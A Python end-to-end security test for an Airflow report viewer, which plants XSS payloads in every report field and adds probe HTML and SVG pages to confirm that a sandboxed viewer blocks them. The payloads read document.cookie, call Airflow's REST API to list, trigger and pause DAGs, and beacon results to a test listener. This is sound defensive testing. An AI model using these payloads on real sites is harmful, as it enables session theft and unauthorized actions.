"""A script planted in a report cannot act as the reader: headless Chromium logged in to the session's api-server.

The hostile batch is a copy of the session's published run's batch (``published_run``) with a
payload in every input a person or a file can put into a report: the environment (its name, or a
prompt file's URI) and its options, the model reference, the code version, the review decision's
reason and who decided, a suite summary's examples, GX error message and threshold, and the
audit's model path. The overview page the viewer serves is then written by the real report code
(``write_report_index``). Next to it lie two files whose scripts do run (``probe.html``,
``probe.svg``): stand-ins for any report file that fails to escape. A DAG run record (created,
never run) points the viewer at the batch, as the plan task's XCom does.

Each payload, if it ran, would record itself in ``window.P`` and call a loopback listener of the
test with what it saw. The test proves: no planted payload ran (in Airflow's UI frame or as the top
window); the probes that run do so in an opaque origin where ``document.cookie`` throws and no
request of theirs leaves the page (a read of Airflow's REST API, a simple POST that would trigger a
run, a PATCH that would pause the DAG, an image to the listener), while the same read from
Airflow's own origin succeeds with the session cookie; and links between report pages, Data Docs
included (their lists drawn by the vendored scripts), still work in the UI's frame.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import shutil
import time
from pathlib import Path
from types import SimpleNamespace

import pytest

from tasks import layout
from tasks.batch import Batch
from tasks.orchestration.steps import batch_record, run_batch_id
from tasks.records.review import new_decision
from tasks.records.suite_summary import SummaryCounts
from tasks.report import write_report_index

from .browser import chromium, sign_in
from .report_runs import listening, register_run

pytestmark = [pytest.mark.e2e, pytest.mark.slow]
HOSTILE_RUN = "manual__hostile-report"
PLANTED = (
    "environment",
    "options",
    "model",
    "code_version",
    "reason",
    "decided_by",
    "example",
    "error",
    "threshold",
    "audit_model",
)
# What a payload does when it runs: record where it ran and what it could read, and tell the listener.
RECORD = (
    "var r={t:'TAG',o:self.origin};try{r.c=document.cookie}catch(e){r.c=e.name}"
    "(window.P=window.P||[]).push(r);new Image().src='LISTENER/ran?'+encodeURIComponent(JSON.stringify(r));"
    "fetch('/api/v2/dags',{credentials:'include'}).then(x=>x.status,e=>e.name)"
    ".then(s=>{new Image().src='LISTENER/api?'+encodeURIComponent(JSON.stringify({t:'TAG',s:s}))})"
)
# The probe pages' script: the same, plus a POST that would trigger a run and a PATCH that would pause the DAG;
# what it saw is left in window.P (the image that would carry it to the listener is refused too).
PROBE = """
const seen = {o: self.origin};
try { seen.c = document.cookie } catch (e) { seen.c = e.name }
try { seen.storage = String(localStorage.length) } catch (e) { seen.storage = e.name }
const call = (url, init) => fetch(url, {credentials: 'include', ...init}).then(r => r.status, e => e.name);
Promise.all([
  call('/api/v2/dags'),
  call('/api/v2/dags/rollout_batch/dagRuns', {method: 'POST', headers: {'Content-Type': 'text/plain'},
                                              body: '{"logical_date": null}'}),
  call('/api/v2/dags/rollout_batch', {method: 'PATCH', headers: {'Content-Type': 'application/json'},
                                      body: '{"is_paused": true}'}),
]).then(([read, trigger, pause]) => {
  Object.assign(seen, {read, trigger, pause});
  window.P = seen;
  new Image().src = 'LISTENER/probe?' + encodeURIComponent(JSON.stringify(seen));
});
"""


def payload(tag: str, listener: str, *, short: bool = False) -> str:
    """A ``<script>`` and an ``<img onerror>`` that run :data:`RECORD` (only the latter when ``short``)."""
    script = RECORD.replace("TAG", tag).replace("LISTENER", listener)
    if short:  # decided_by holds at most 256 characters
        return f"<img src=x onerror=\"new Image().src='{listener}/ran?{tag}'\">"
    return f'<script>{script}</script><img src=x onerror="{script}">'


@pytest.fixture(scope="module")
def listener():
    with listening() as server:
        yield server


@pytest.fixture(scope="module")
def hostile_run(published_run, listener, tmp_path_factory):
    """The published batch copied, a payload planted in every input, the page rewritten, a run record naming it."""
    dag_run, conf = published_run
    batch_id = run_batch_id(conf, dag_run)
    root = tmp_path_factory.mktemp("hostile-run")
    source = Path(conf["storage_url"].removeprefix("file://")) / "batches" / batch_id
    shutil.copytree(source, root / "batches" / batch_id)
    batch = Batch.open(str(root), batch_id)
    store = batch.store
    payloads = {tag: payload(tag, listener.url, short=tag == "decided_by") for tag in PLANTED}

    config = batch.config
    hostile = dataclasses.replace(
        config,
        environment=payloads["environment"],
        environment_options={**config.environment_options, payloads["options"]: payloads["options"]},
        model=dataclasses.replace(config.model, reference=payloads["model"]),
        code_version=payloads["code_version"],
    )
    store.replace(layout.plan_config(), hostile.to_json().encode())
    batch = Batch.open(str(root), batch_id)  # a handle caches the config it read: open the planted one
    decision = new_decision(batch_id, "publish", payloads["reason"], decided_by=payloads["decided_by"], via="airflow")
    store.replace(layout.REVIEW_RECORD, decision.to_json().encode())  # the run's own record: publish's, unreviewed
    plant_summary(batch, payloads)
    plant_audit_model(store, payloads["audit_model"])
    write_report_index(batch)
    for name in ("probe.html", "probe.svg"):
        (root / "batches" / batch_id / "reports" / name).write_text(probe_file(name, listener.url))

    run = SimpleNamespace(dag_id=dag_run.dag_id, run_id=HOSTILE_RUN)
    register_run(run.dag_id, run.run_id, batch_record({"storage_url": f"file://{root}", "batch_id": batch_id}, run))
    return dag_run.dag_id, HOSTILE_RUN, payloads


def plant_summary(batch: Batch, payloads: dict[str, str]) -> None:
    """A later run of the dataset suite whose first warn expectation failed with hostile examples, error, threshold."""
    summary = batch.suite_summary("dataset")
    outcomes = list(summary.expectations)
    index = next(i for i, e in enumerate(outcomes) if e.severity == "warn")
    outcomes[index] = dataclasses.replace(
        outcomes[index],
        success=False,
        unexpected_count=1,
        examples=(payloads["example"],),
        error=payloads["error"],
        threshold=[payloads["threshold"]],
    )
    planted = dataclasses.replace(
        summary,
        status="warned",
        success=True,
        expectations=tuple(outcomes),
        counts=SummaryCounts(expectations=len(outcomes), failed=0, warned=1, rows=summary.counts.rows),
        run="run-001",
    )
    batch.store.write_once(layout.suite_summary("dataset", "run-001"), planted.to_json().encode())


def plant_audit_model(store, model_path: str) -> None:
    """``metrics.json`` with the audit's model path replaced, resealed in the published marker."""
    metrics = json.loads(store.read_bytes(layout.DATASET_METRICS))
    metrics["audit"] = {**(metrics.get("audit") or {}), "model_path": model_path}
    data = (json.dumps(metrics, sort_keys=True, indent=2) + "\n").encode()
    store.replace(layout.DATASET_METRICS, data)
    marker = json.loads(store.read_bytes(layout.DATASET_MARKER))
    marker["metrics"].update(size=len(data), sha256=hashlib.sha256(data).hexdigest())
    store.replace(layout.DATASET_MARKER, json.dumps(marker, sort_keys=True, indent=2).encode())


def probe_file(name: str, listener: str) -> str:
    script = PROBE.replace("LISTENER", listener)
    if name.endswith(".svg"):
        return f'<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[{script}]]></script></svg>'
    return f"<!doctype html><title>probe</title><script>{script}</script>"


def dag_state(dag_id: str) -> tuple[bool, int]:
    """Whether ``dag_id`` is paused, and how many runs it has."""
    from airflow.models.dag import DagModel
    from airflow.models.dagrun import DagRun
    from airflow.utils.session import create_session
    from sqlalchemy import func, select

    with create_session() as session:
        paused = session.scalar(select(DagModel.is_paused).where(DagModel.dag_id == dag_id))
        runs = session.scalar(select(func.count()).select_from(DagRun).where(DagRun.dag_id == dag_id))
    return bool(paused), int(runs)


INERT = """
let cookie; try { cookie = document.cookie } catch (e) { cookie = e.name }
return {origin: self.origin, ran: typeof window.P, cookie,
        active: document.querySelectorAll('script, img, iframe, object, embed').length,
        text: document.body.innerText};
"""
LOADS_IMAGE = """
const [src, done] = arguments, image = new Image();
image.onload = () => done(true);
image.onerror = () => done(false);
image.src = src;
"""
# What the probes saw: an opaque origin, no cookie, no storage, and an API that answered none of their calls.
SANDBOXED = {
    "o": "null",
    "c": "SecurityError",
    "storage": "SecurityError",
    "read": "TypeError",
    "trigger": "TypeError",
    "pause": "TypeError",
}
READ_API = """
const done = arguments[arguments.length - 1];
fetch('/api/v2/dags', {credentials: 'include'}).then(r => done(r.status), e => done(e.name));
"""


def open_report_tab(browser, wait, run_page: str) -> None:
    """The run's page in Airflow's UI, its "Validation report" tab, and the browser switched into the tab's frame."""
    from selenium.webdriver.common.by import By

    browser.get(run_page)
    wait.until(lambda b: b.find_elements(By.LINK_TEXT, "Validation report")).pop().click()
    browser.switch_to.frame(wait.until(lambda b: b.find_elements(By.TAG_NAME, "iframe"))[0])
    wait.until(lambda b: b.find_elements(By.TAG_NAME, "h1"))


def data_docs_at(suffix: str):
    """A wait condition: the browser shows a Data Docs page (by its title) at an address ending in ``suffix``."""
    return lambda browser: (
        address_of(browser).endswith(suffix) and "Great Expectations" in browser.execute_script("return document.title")
    )


def address_of(browser) -> str:
    """The address of the document the browser is switched to (``current_url`` is the top window's)."""
    return browser.execute_script("return location.href")


def inert_page(browser) -> dict:
    """The page the browser shows, once it is checked to be sandboxed with nothing planted running in it."""
    page = browser.execute_script(INERT)
    assert (page["origin"], page["ran"], page["cookie"]) == ("null", "undefined", "SecurityError")
    assert page["active"] == 0  # the overview page has no script, image or frame of its own
    return page


def test_planted_scripts_cannot_act_as_the_reader(hostile_run, api_server_url, listener):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    dag_id, run_id, payloads = hostile_run
    url = api_server_url
    before = dag_state(dag_id)
    browser = chromium()
    wait = WebDriverWait(browser, 60)
    try:
        sign_in(browser, url)
        # Airflow's own origin: a script there reads the session token and calls the API as the reader.
        assert "_token=" in browser.execute_script("return document.cookie")
        assert browser.execute_async_script(READ_API) == 200

        open_report_tab(browser, wait, f"{url}/dags/{dag_id}/runs/{run_id}")
        time.sleep(2)  # time for any planted script to run and call the listener
        page = browser.execute_script(INERT)
        assert (page["origin"], page["ran"], page["cookie"], page["active"]) == (
            "null",
            "undefined",
            "SecurityError",
            0,
        )
        for tag in ("environment", "model", "code_version", "reason", "decided_by", "example", "error", "threshold"):
            assert payloads[tag][:40] in page["text"], tag  # shown as text
        assert payloads["audit_model"][:40] in page["text"] and payloads["options"][:40] not in page["text"]
        assert browser.execute_async_script(READ_API) == "TypeError"  # what any script there gets

        # Links between report pages work inside the UI's frame: overview to Data Docs, within them, and back.
        browser.find_elements(By.PARTIAL_LINK_TEXT, "Data Docs")[0].click()
        wait.until(data_docs_at("/lineage/run-000/index.html"))
        assert browser.execute_script("return self.origin") == "null" and "/signed/" in address_of(browser)
        assert browser.execute_async_script(LOADS_IMAGE, "static/images/favicon.ico")  # a file below the page
        # the index's list of suites is drawn by its vendored bootstrap-table: follow one of its links
        wait.until(lambda b: b.find_elements(By.CSS_SELECTOR, "table a[href='expectations/lineage/shards.html']"))
        browser.find_element(By.CSS_SELECTOR, "table a[href='expectations/lineage/shards.html']").click()
        wait.until(data_docs_at("/lineage/run-000/expectations/lineage/shards.html"))
        browser.switch_to.default_content()
        open_report_tab(browser, wait, f"{url}/dags/{dag_id}/runs/{run_id}")
        browser.find_element(By.LINK_TEXT, "shards").click()  # the overview's link to a table's result page
        wait.until(data_docs_at("/lineage-shards.html"))
        browser.switch_to.default_content()

        # The overview as the top window: the same.
        browser.get(f"{url}/rollout-ledger/dags/{dag_id}/runs/{run_id}/reports/")
        wait.until(lambda b: b.find_elements(By.TAG_NAME, "h1"))
        time.sleep(2)
        page = browser.execute_script(INERT)
        assert (page["origin"], page["ran"], page["cookie"], page["active"]) == (
            "null",
            "undefined",
            "SecurityError",
            0,
        )

        # Report files whose scripts run: they run in an opaque origin and the API answers none of their calls.
        for name in ("probe.html", "probe.svg"):
            browser.get(f"{url}/rollout-ledger/dags/{dag_id}/runs/{run_id}/reports/{name}")
            assert wait.until(lambda b: b.execute_script("return window.P")) == SANDBOXED, name
    finally:
        browser.quit()

    time.sleep(1)
    assert listener.heard == []  # no planted payload ran, and nothing a probe sent left its page
    assert dag_state(dag_id) == before  # not paused, no run triggered
